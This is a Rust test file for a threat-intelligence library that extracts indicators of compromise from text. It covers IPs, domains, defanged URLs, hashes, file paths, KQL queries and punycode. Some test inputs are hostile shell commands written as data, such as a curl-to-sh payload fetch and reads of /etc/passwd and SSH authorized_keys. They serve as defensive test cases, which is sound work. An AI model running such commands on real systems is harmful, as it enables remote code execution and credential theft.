//! Indicator extraction on realistic text: plain and defanged forms, byte ranges, MSTICPy's
//! priority rule and the false positives that query text invites.

use quarry_enrichment::{IocType, classify, extract, indicators_at};

/// Returns `(type, value, original text of the range)` for every indicator in `text`.
fn found(text: &str) -> Vec<(IocType, String, String)> {
    extract(text)
        .into_iter()
        .map(|indicator| {
            let original = text[indicator.range()].to_owned();
            (indicator.ioc_type, indicator.value, original)
        })
        .collect()
}

fn values_of(text: &str, kind: IocType) -> Vec<String> {
    extract(text)
        .into_iter()
        .filter(|indicator| indicator.ioc_type == kind)
        .map(|indicator| indicator.value)
        .collect()
}

#[test]
fn ipv4_with_range() {
    let text = "Blocked 203.0.113.7 at the edge";
    let indicators = extract(text);
    assert_eq!(indicators.len(), 1);
    assert_eq!(indicators[0].ioc_type, IocType::Ipv4);
    assert_eq!(indicators[0].value, "203.0.113.7");
    assert_eq!(indicators[0].start, 8);
    assert_eq!(indicators[0].end, 19);
    assert!(!indicators[0].defanged);
}

#[test]
fn ipv4_rejects_invalid_and_versions() {
    assert!(values_of("version 1.2.3.4.5 shipped", IocType::Ipv4).is_empty());
    assert!(values_of("bad 300.1.1.1 octet", IocType::Ipv4).is_empty());
    assert_eq!(
        values_of("ends a sentence 8.8.8.8.", IocType::Ipv4),
        ["8.8.8.8"]
    );
    assert_eq!(
        values_of("cidr 10.0.0.0/8 here", IocType::Ipv4),
        ["10.0.0.0"]
    );
}

#[test]
fn ipv6_forms() {
    assert_eq!(
        values_of(
            "from 2001:db8::1 and fe80::1ff:fe23:4567:890a",
            IocType::Ipv6
        ),
        ["2001:db8::1", "fe80::1ff:fe23:4567:890a"]
    );
    assert_eq!(
        values_of("mapped ::ffff:192.0.2.1 seen", IocType::Ipv6),
        ["::ffff:192.0.2.1"]
    );
    assert!(values_of("at 12:30:45 today", IocType::Ipv6).is_empty());
    assert!(values_of("scope::name", IocType::Ipv6).is_empty());
}

#[test]
fn domains_checked_against_suffix_list() {
    assert_eq!(
        values_of(
            "beacon to evil-domain.co.uk and cdn.example.com",
            IocType::Dns
        ),
        ["evil-domain.co.uk", "cdn.example.com"]
    );
    assert!(values_of("SecurityEvent.TimeGenerated and host.local", IocType::Dns).is_empty());
    assert!(
        values_of(
            "extend n = p.Name, c = LocationDetails.city, a = InitiatedBy.app",
            IocType::Dns
        )
        .is_empty()
    );
    assert_eq!(
        values_of("see GitHub.com and EXAMPLE.ORG", IocType::Dns),
        ["GitHub.com", "EXAMPLE.ORG"]
    );
}

#[test]
fn urls_with_host_reported() {
    let text = "GET https://login.example.com:8443/path/a.php?x=1#frag, then stop";
    let result = found(text);
    assert_eq!(
        result,
        [
            (
                IocType::Url,
                "https://login.example.com:8443/path/a.php?x=1#frag".to_owned(),
                "https://login.example.com:8443/path/a.php?x=1#frag".to_owned()
            ),
            (
                IocType::Dns,
                "login.example.com".to_owned(),
                "login.example.com".to_owned()
            ),
        ]
    );
}

#[test]
fn url_with_ip_host() {
    let result = found("curl http://198.51.100.23/payload.sh|sh");
    assert_eq!(result[0].0, IocType::Url);
    assert_eq!(result[0].1, "http://198.51.100.23/payload.sh");
    assert_eq!(result[1].0, IocType::Ipv4);
    assert_eq!(result[1].1, "198.51.100.23");
}

#[test]
fn url_in_single_quotes() {
    assert_eq!(
        values_of("where Url == 'http://bad.example.org/x'", IocType::Url),
        ["http://bad.example.org/x"]
    );
}

#[test]
fn defanged_forms() {
    let text = "hxxps://evil[.]example[.]com/drop and 198[.]51[.]100[.]9 and bob[at]example(.)org";
    let result = found(text);
    let expected = [
        (
            IocType::Url,
            "https://evil.example.com/drop",
            "hxxps://evil[.]example[.]com/drop",
        ),
        (IocType::Dns, "evil.example.com", "evil[.]example[.]com"),
        (IocType::Ipv4, "198.51.100.9", "198[.]51[.]100[.]9"),
        (IocType::Email, "bob@example.org", "bob[at]example(.)org"),
    ];
    assert_eq!(result.len(), expected.len(), "{result:?}");
    for (actual, (kind, value, original)) in result.iter().zip(expected) {
        assert_eq!(actual.0, kind);
        assert_eq!(actual.1, value);
        assert_eq!(actual.2, original);
    }
    assert!(extract(text).iter().all(|indicator| indicator.defanged));
}

#[test]
fn defanged_scheme_is_case_insensitive() {
    assert_eq!(
        values_of("hXXp://example[.]net/a", IocType::Url),
        ["http://example.net/a"]
    );
}

#[test]
fn email_beats_domain() {
    let result = found("where Sender == 'alice.smith@contoso.com'");
    assert_eq!(result.len(), 1, "{result:?}");
    assert_eq!(result[0].0, IocType::Email);
    assert_eq!(result[0].1, "alice.smith@contoso.com");
}

#[test]
fn hashes_by_length() {
    let md5 = "d41d8cd98f00b204e9800998ecf8427e";
    let sha1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709";
    let sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    let text = format!("{md5} {sha1} 0x{sha256} not 0123456789abcdef");
    let result = found(&text);
    let kinds: Vec<IocType> = result.iter().map(|item| item.0).collect();
    assert_eq!(kinds, [IocType::Md5, IocType::Sha1, IocType::Sha256]);
    assert_eq!(result[2].1, sha256);
}

#[test]
fn windows_paths() {
    assert_eq!(
        values_of(
            r"ran C:\Windows\System32\cmd.exe /c whoami",
            IocType::WindowsPath
        ),
        [r"C:\Windows\System32\cmd.exe"]
    );
    assert_eq!(
        values_of(
            r"from \\fileserver\share$\tools\psexec.exe.",
            IocType::WindowsPath
        ),
        [r"\\fileserver\share$\tools\psexec.exe"]
    );
    assert_eq!(
        values_of(r"%SystemRoot%\Temp\a b\x.dll", IocType::WindowsPath),
        [r"%SystemRoot%\Temp\a b\x.dll"]
    );
    assert_eq!(
        values_of(
            r#"path "C:\\Program Files\\App\\app.exe""#,
            IocType::WindowsPath
        ),
        [r"C:\\Program Files\\App\\app.exe"]
    );
    assert!(values_of(r#"matches regex "\d+\.\d+""#, IocType::WindowsPath).is_empty());
}

#[test]
fn linux_paths() {
    assert_eq!(
        values_of(
            "cat /etc/passwd; ls ~/.ssh/authorized_keys",
            IocType::LinuxPath
        ),
        ["/etc/passwd", "~/.ssh/authorized_keys"]
    );
    assert!(values_of("bin(TimeGenerated, 1h) / 60", IocType::LinuxPath).is_empty());
    assert!(values_of("ratio a/b", IocType::LinuxPath).is_empty());
}

#[test]
fn path_keeps_hash_inside() {
    let text = "/tmp/d41d8cd98f00b204e9800998ecf8427e/run";
    let result = found(text);
    assert_eq!(result.len(), 1, "{result:?}");
    assert_eq!(result[0].0, IocType::LinuxPath);
}

#[test]
fn url_path_not_linux_path() {
    let result = found("http://example.com/var/www/shell.php");
    let kinds: Vec<IocType> = result.iter().map(|item| item.0).collect();
    assert_eq!(kinds, [IocType::Url, IocType::Dns]);
}

#[test]
fn multibyte_text_keeps_ranges() {
    let text = "Überprüfung: évil[.]example.com → 192.0.2.5";
    for indicator in extract(text) {
        assert!(text.is_char_boundary(indicator.start));
        assert!(text.is_char_boundary(indicator.end));
    }
    assert!(
        values_of(text, IocType::Dns).is_empty(),
        "a name that starts with a non-ASCII letter is not cut into an ASCII tail"
    );
    assert_eq!(values_of(text, IocType::Ipv4), ["192.0.2.5"]);
}

#[test]
fn classify_whole_strings() {
    assert_eq!(classify("8.8.8.8"), Some(IocType::Ipv4));
    assert_eq!(classify("example.com"), Some(IocType::Dns));
    assert_eq!(classify("http://example.com/"), Some(IocType::Url));
    assert_eq!(classify("alice@example.com"), Some(IocType::Email));
    assert_eq!(
        classify("da39a3ee5e6b4b0d3255bfef95601890afd80709"),
        Some(IocType::Sha1)
    );
    assert_eq!(classify(" 2001:db8::5 "), Some(IocType::Ipv6));
    assert_eq!(classify("not an indicator"), None);
    assert_eq!(classify("8.8.8.8 and more"), None);
}

#[test]
fn kql_query_text() {
    let query = r#"DeviceNetworkEvents
| where RemoteIP in ("185.220.101.4", "10.0.0.5")
| where RemoteUrl has "malware-c2[.]xyz"
| where InitiatingProcessFolderPath startswith @"C:\Users\Public\"
| extend Ratio = BytesSent / 60, Host = tostring(AdditionalFields.HostName)"#;
    let result = found(query);
    let summary: Vec<(IocType, &str)> = result
        .iter()
        .map(|(kind, value, _)| (*kind, value.as_str()))
        .collect();
    assert_eq!(
        summary,
        [
            (IocType::Ipv4, "185.220.101.4"),
            (IocType::Ipv4, "10.0.0.5"),
            (IocType::Dns, "malware-c2.xyz"),
            (IocType::WindowsPath, r"C:\Users\Public"),
        ]
    );
}

#[test]
fn indicators_at_cursor() {
    let text = "x = \"https://evil.example.com/a\" // 8.8.8.8";
    let host_offset = text.find("evil").unwrap() + 2;
    let around: Vec<IocType> = indicators_at(text, host_offset)
        .into_iter()
        .map(|indicator| indicator.ioc_type)
        .collect();
    assert_eq!(around, [IocType::Url, IocType::Dns]);

    let after_ip = text.len();
    let ip = indicators_at(text, after_ip);
    assert_eq!(ip.len(), 1);
    assert_eq!(ip[0].observable().value, "8.8.8.8");

    assert!(indicators_at(text, 1).is_empty());
}

#[test]
fn punycode_domains_extracted() {
    assert_eq!(
        values_of(
            "dns query for xn--80ak6aa92e.com and shop.xn--e1afmkfd.xn--p1ai",
            IocType::Dns
        ),
        ["xn--80ak6aa92e.com", "shop.xn--e1afmkfd.xn--p1ai"]
    );
    assert_eq!(
        values_of("mail admin@xn--80ak6aa92e.com now", IocType::Email),
        ["admin@xn--80ak6aa92e.com"]
    );
    assert_eq!(
        values_of("fetch https://xn--80ak6aa92e.com/a", IocType::Url),
        ["https://xn--80ak6aa92e.com/a"]
    );
    assert!(values_of("name a--b.example_", IocType::Dns).is_empty());
}
